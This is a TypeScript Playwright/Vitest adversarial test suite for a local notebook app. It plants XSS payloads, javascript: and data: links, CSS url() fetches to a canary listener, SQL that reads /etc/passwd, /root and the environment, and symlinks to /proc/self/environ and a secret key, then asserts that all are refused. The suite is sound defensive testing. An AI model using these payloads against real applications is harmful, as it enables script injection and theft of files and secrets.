// The standing adversarial suite (issue 9): someone else's notebook and data folder, full of
// hostile content, opened in Chromium against the built app. A canary HTTP listener on
// 127.0.0.1 stands for "off the machine". Whatever the payloads try:
//   - no script of theirs runs (a window flag, a dialog, a fetch to the canary),
//   - no request leaves the app's origin and none reaches the canary,
//   - no file changes on disk (notebooks, data, the files the links point at),
//   - the page says what it refused, with file and line where there is one.
// This suite starts its own server (not the shared one of global-setup.ts) on its own folders.
import { spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from './browser.ts';
import { freePort, waitForServer } from './server-process.ts';

const root = resolve(import.meta.dirname, '../..');
const API_KEY = 'sk-adversarial-canary-key-0123456789';

let work: string;
let server: ChildProcess;
let baseURL: string;
let canary: Server;
let canaryURL: string;
const canaryHits: string[] = [];
let browser: Browser;
let before: Map<string, string>;

/** Every file under the folders, by path: sha256 of its bytes, or the target of a link. */
function snapshot(folders: string[]): Map<string, string> {
	const out = new Map<string, string>();
	const walk = (dir: string) => {
		for (const name of readdirSync(dir)) {
			const path = join(dir, name);
			const info = lstatSync(path);
			if (info.isSymbolicLink()) out.set(path, `link → ${readlinkSync(path)}`);
			else if (info.isDirectory()) walk(path);
			else out.set(path, createHash('sha256').update(readFileSync(path)).digest('hex'));
		}
	};
	folders.forEach(walk);
	return out;
}

const BUILT_IN = readdirSync(join(root, 'notebooks'))
	.filter((f) => f.endsWith('.md'))
	.map((f) => f.slice(0, -3));

const FENCE = '```';
const cell = (info: string, body: string) => `${FENCE}${info}\n${body}\n${FENCE}\n`;

/** JS that, if it ever ran, would leave a trace everywhere we look. */
const js = (tag: string) => `window.__pwned='${tag}';alert('${tag}');fetch('${canaryURL}/js-${tag}')`;

function hostileNotebook(): string {
	const c = canaryURL;
	return [
		'---',
		'title: <script>window.__pwned="title"</script>',
		'---',
		`# Hostile <img src="${c}/md-img" onerror="${js('md-onerror')}">`,
		'',
		`<script>${js('md-script')}</script>`,
		'',
		`[a javascript link](javascript:${js('md-link')}) and ![an image](${c}/md-image.png)`,
		'',
		cell(
			'sql id=payload',
			[
				`SELECT 'javascript:${js('href').replaceAll("'", "''")}' AS link,`,
				`       ' JaVa\tScRiPt:${js('href2').replaceAll("'", "''")}' AS link2,`,
				`       'data:text/html,<script>${js('data').replaceAll("'", "''")}</script>' AS link3,`,
				`       'url(${c}/identity-fill)' AS paint,`,
				`       '<img src="${c}/value-img" onerror="${js('value').replaceAll("'", "''")}">' AS "<script>${js('colname').replaceAll("'", "''")}</script>",`,
				'       1 AS x, 1 AS y'
			].join('\n')
		),
		cell('plot id=href_plot from=payload', '{"marks": [{"type": "dot", "x": "x", "y": "y", "r": 40, "href": "link", "fill": "paint"}], "color": {"type": "identity"}}'),
		cell('plot id=href2_plot from=payload', '{"marks": [{"type": "dot", "x": "x", "y": "y", "r": 40, "href": "link2"}]}'),
		cell('plot id=href3_plot from=payload', '{"marks": [{"type": "dot", "x": "x", "y": "y", "r": 40, "href": "link3"}]}'),
		cell('plot id=image_plot from=payload', `{"marks": [{"type": "image", "x": "x", "y": "y", "src": "link"}]}`),
		cell('plot id=fill_plot from=payload', `{"marks": [{"type": "dot", "x": "x", "y": "y", "fill": "url(${c}/fill-constant)"}]}`),
		cell('plot id=style_plot from=payload', `{"marks": [{"type": "dot", "x": "x", "y": "y"}], "style": {"background": "url(${c}/style-bg)"}}`),
		cell('plot id=text_plot from=payload', `{"marks": [{"type": "text", "x": "x", "y": "y", "text": "<script>${js('colname').replaceAll('"', '\\"')}</script>"}]}`),
		cell('sql id=remote_csv', `SELECT * FROM read_csv('${c}/remote.csv')`),
		cell('sql id=remote_text', `SELECT * FROM read_text('${c}/remote.txt')`),
		cell('sql id=list_root', `SELECT * FROM glob('/root/*')`),
		cell('sql id=read_passwd', `SELECT * FROM read_text('/etc/passwd')`),
		cell('sql id=copy_out', `COPY (SELECT 1 AS a) TO '${join(work, 'datasets', 'written.csv')}'`),
		cell('sql id=attach', `ATTACH '${join(work, 'datasets', 'attached.db')}' AS other`),
		cell('sql id=unlock', 'SET enable_external_access = true'),
		cell('sql id=environ', 'SELECT * FROM environ'),
		cell('sql id=values', 'SELECT * FROM xss_values')
	].join('\n');
}

beforeAll(async () => {
	canary = createHttpServer((req, res) => {
		canaryHits.push(`${req.method} ${req.url}`);
		res.writeHead(200, { 'content-type': 'text/plain' });
		res.end('a\n1\n');
	});
	await new Promise<void>((done) => canary.listen(0, '127.0.0.1', done));
	canaryURL = `http://127.0.0.1:${(canary.address() as { port: number }).port}`;

	work = mkdtempSync(join(tmpdir(), 'covw-adversarial-'));
	const notebooks = join(work, 'notebooks');
	const data = join(work, 'datasets');
	const outside = join(work, 'outside');
	for (const dir of [notebooks, data, outside, join(data, 'a'), join(data, 'b')]) mkdirSync(dir, { recursive: true });
	writeFileSync(join(outside, 'secret.csv'), `key\n${API_KEY}\n`);
	writeFileSync(join(outside, 'secret.md'), `# secret ${API_KEY}\n`);
	writeFileSync(join(notebooks, 'hostile.md'), hostileNotebook());
	symlinkSync(join(outside, 'secret.md'), join(notebooks, 'linked-out.md'));
	symlinkSync('/proc/self/environ', join(data, 'environ.csv'));
	symlinkSync(join(outside, 'secret.csv'), join(data, 'secret.csv'));
	writeFileSync(join(data, 'a', 'dup.csv'), 'x\n1\n');
	writeFileSync(join(data, 'b', 'dup.csv'), 'x\n2\n');
	writeFileSync(join(data, 'deep.jsonl'), `{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}\n`);
	writeFileSync(
		join(data, 'xss_values.csv'),
		`"<script>${js('csv-col').replaceAll('"', '""')}</script>",link\n` +
			`"<img src=""${canaryURL}/csv-img"" onerror=""${js('csv-value').replaceAll('"', '""')}"">","=HYPERLINK(""${canaryURL}/hyperlink"",""x"")"\n`
	);
	// The built-in notebooks and the paper's tables too: they must run under the same policy.
	for (const name of BUILT_IN) cpSync(join(root, 'notebooks', `${name}.md`), join(notebooks, `${name}.md`));
	cpSync(join(root, 'datasets/paper'), join(data, 'paper'), { recursive: true });
	before = snapshot([notebooks, data, outside]);

	const port = await freePort();
	server = spawn(process.execPath, [join(root, 'build/index.js')], {
		env: {
			...process.env,
			HOST: '127.0.0.1',
			PORT: String(port),
			COVW_ROOT: root,
			COVW_NOTEBOOKS: notebooks,
			COVW_DATA: data,
			COVW_RUNS: join(work, 'runs'),
			COVW_CACHE: join(work, 'cache'),
			OPENAI_BASE_URL: `${canaryURL}/v1`,
			OPENAI_API_KEY: API_KEY
		},
		stdio: ['ignore', 'inherit', 'inherit']
	});
	baseURL = `http://127.0.0.1:${port}`;
	await waitForServer(`${baseURL}/api/tables`, server);
	browser = await launchBrowser();
});

afterAll(async () => {
	await browser?.close();
	server?.kill();
	await new Promise((done) => canary?.close(done));
	if (work) rmSync(work, { recursive: true, force: true });
});

interface Watched {
	page: Page;
	offsite: string[];
	dialogs: string[];
}

/** Content-Security-Policy violations the page has seen (recorded by a script Playwright injects). */
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);

async function open(path: string): Promise<Watched> {
	const page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
	const watched: Watched = { page, offsite: [], dialogs: [] };
	const origin = new URL(baseURL).origin;
	page.on('request', (request) => {
		const url = request.url();
		if (url.startsWith('data:') || url.startsWith('blob:')) return;
		if (new URL(url).origin !== origin) watched.offsite.push(url);
	});
	await page.addInitScript(() => {
		const seen: string[] = ((window as unknown as { __cspViolations: string[] }).__cspViolations = []);
		document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
	});
	page.on('dialog', (dialog) => {
		watched.dialogs.push(dialog.message());
		void dialog.dismiss();
	});
	await page.goto(baseURL + path);
	return watched;
}

const cellError = (page: Page, id: string) => page.locator(`[data-cell-id="${id}"] [data-testid="cell-error"]`);

async function expectNothingRan({ page, offsite, dialogs }: Watched): Promise<void> {
	expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
	expect(dialogs).toEqual([]);
	expect(offsite).toEqual([]);
	expect(canaryHits).toEqual([]);
}

describe('a hostile notebook and data folder', () => {
	it('opens with every refusal shown where it happened, and nothing runs or leaves', async () => {
		const watched = await open('/notebooks/hostile');
		const { page } = watched;
		await page.locator('[data-cell-id="href_plot"] [data-testid="plot"] svg').first().waitFor({ timeout: 30_000 });

		// Plot specs that would load from a URL are refused on their line.
		await expect.poll(() => cellError(page, 'image_plot').textContent()).toMatch(/unknown mark type "image".*\(line \d+ of the cell\)/s);
		await expect.poll(() => cellError(page, 'fill_plot').textContent()).toMatch(/"url\(" is not allowed.*\(line \d+ of the cell\)/s);
		await expect.poll(() => cellError(page, 'style_plot').textContent()).toMatch(/"style": "background": "url\(" is not allowed.*\(line \d+ of the cell\)/s);
		// SQL cannot reach files, folders or URLs (and SET, like COPY and ATTACH, cannot be a view).
		for (const id of ['remote_csv', 'remote_text', 'list_root', 'read_passwd']) {
			await expect.poll(() => cellError(page, id).textContent(), { message: id }).toMatch(/disabled by configuration|Permission/);
		}
		// A cell is a view, so COPY and ATTACH fail to parse there; that no file appears is checked below.
		for (const id of ['copy_out', 'attach', 'unlock']) await expect.poll(() => cellError(page, id).count(), { message: id }).toBe(1);
		// The link out of the data folder is no table.
		await expect.poll(() => cellError(page, 'environ').textContent()).toMatch(/environ/);
		// Hostile values and column names are shown as text.
		await expect.poll(() => page.locator('[data-cell-id="values"] [data-testid="result-grid"]').textContent()).toContain('<img src=');
		await expect.poll(() => page.locator('[data-cell-id="payload"] [data-testid="result-grid"]').textContent()).toContain('<script>');

		// No link in a plot may run script: each dot's link is gone or is http(s).
		for (const id of ['href_plot', 'href2_plot', 'href3_plot']) {
			// A real click where the dot is, and a click event on each link element.
			const circle = page.locator(`[data-cell-id="${id}"] [data-testid="plot"] circle`).first();
			await circle.scrollIntoViewIfNeeded();
			const box = (await circle.boundingBox())!;
			await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
			for (const link of await page.locator(`[data-cell-id="${id}"] [data-testid="plot"] a`).all()) await link.dispatchEvent('click');
		}
		await page.waitForTimeout(500);
		expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned), 'a click on a plot link ran script').toBeUndefined();
		for (const id of ['href_plot', 'href2_plot', 'href3_plot']) {
			const links = await page.locator(`[data-cell-id="${id}"] [data-testid="plot"] a`).evaluateAll((as) => as.map((a) => a.getAttribute('href')));
			for (const href of links) expect(href === null || /^https?:/i.test(href), `${id}: ${href}`).toBe(true);
		}
		// A fill from data through an identity scale cannot be a url(…).
		const fills = await page.locator('[data-cell-id="href_plot"] [data-testid="plot"] circle').evaluateAll((cs) => cs.map((c) => c.getAttribute('fill')));
		for (const fill of fills) expect(fill ?? '').not.toMatch(/url\(/i);

		await page.waitForTimeout(1500); // anything scheduled by a payload would have run by now
		expect(page.url()).toBe(`${baseURL}/notebooks/hostile`);
		await expectNothingRan(watched);
		// The sanitizer held on its own: the policy (the backstop) had nothing left to block.
		expect(await violations(page)).toEqual([]);
		await page.close();
	});

	it('the sidebar lists every table, with the refusals and clashes explained', async () => {
		const watched = await open('/');
		const { page } = watched;
		const list = page.getByTestId('table-list');
		await expect.poll(() => list.textContent(), { timeout: 20_000 }).toContain('rename one of the two');
		const text = (await list.textContent()) ?? '';
		expect(text).toMatch(/environ\.csv is a link to a file outside the data folder/);
		expect(text).toMatch(/secret\.csv is a link to a file outside the data folder/);
		expect(text).toMatch(/deep\.jsonl line 1: nested more than 100 levels deep/);
		expect(text).not.toContain(API_KEY);
		// The notebook linked out of the folder is not listed.
		await expect.poll(() => page.getByTestId('notebook-list').textContent()).toContain('hostile');
		expect(await page.getByTestId('notebook-list').textContent()).not.toContain('linked-out');
		await expectNothingRan(watched);
		await page.close();
	});

	it('there are built-in notebooks to check', () => {
		expect(BUILT_IN.length).toBeGreaterThan(3);
	});

	// One test per notebook: each opens, runs every cell and is checked within its own time limit.
	for (const name of BUILT_IN) {
		it(`the built-in notebook ${name} runs under the policy without a single violation`, async () => {
			const watched = await open(`/notebooks/${name}`);
			const cells = watched.page.locator('[data-testid="cell"]:not([data-kind="markdown"])');
			await expect.poll(() => cells.count(), { timeout: 20_000, message: name }).toBeGreaterThan(0);
			// Every code cell has its output (a result, a plot or an error) once the run settles.
			await expect
				.poll(async () => (await cells.count()) - (await watched.page.locator('[data-testid="cell-output"]').count()), { timeout: 60_000, message: name })
				.toBe(0);
			await watched.page.waitForTimeout(500);
			expect(await violations(watched.page), name).toEqual([]);
			if (name === 'figure4-correlations') {
				// Not over-sanitized: Plot's own colour-ramp legend (an inline PNG) survives.
				const ramp = watched.page.locator('[data-cell-id="heatmap"] [data-testid="plot"] image');
				expect(await ramp.getAttribute('href')).toMatch(/^data:image\/png;base64,/);
			}
			await expectNothingRan(watched);
			await watched.page.close();
		});
	}

	it('the API serves neither the linked secret nor the server environment', async () => {
		for (const path of ['/api/tables', '/api/tables/environ', '/api/tables/secret', '/api/notebooks', '/api/notebooks/linked-out']) {
			const body = await (await fetch(baseURL + path)).text();
			expect(body, path).not.toContain(API_KEY);
		}
	});

	it('every response carries a Content-Security-Policy that allows nothing remote', async () => {
		for (const path of ['/', '/notebooks/hostile', '/label', '/api/tables', '/api/notebooks']) {
			const csp = (await fetch(baseURL + path)).headers.get('content-security-policy');
			expect(csp, path).toBeTruthy();
			expect(csp).toMatch(/default-src 'self'/);
			expect(csp).toMatch(/connect-src 'self'/);
			expect(csp).not.toMatch(/'unsafe-eval'|https?:|\*/);
			const scriptSrc = /script-src ([^;]*)/.exec(csp!)?.[1] ?? '';
			expect(scriptSrc).not.toMatch(/unsafe-inline/);
		}
	});

	it('no file changed on disk: notebooks, data, and what the links point at', async () => {
		await new Promise((r) => setTimeout(r, 1000)); // past any autosave delay
		const after = snapshot([join(work, 'notebooks'), join(work, 'datasets'), join(work, 'outside')]);
		expect([...after.entries()]).toEqual([...before.entries()]);
		expect(canaryHits).toEqual([]);
	});
});
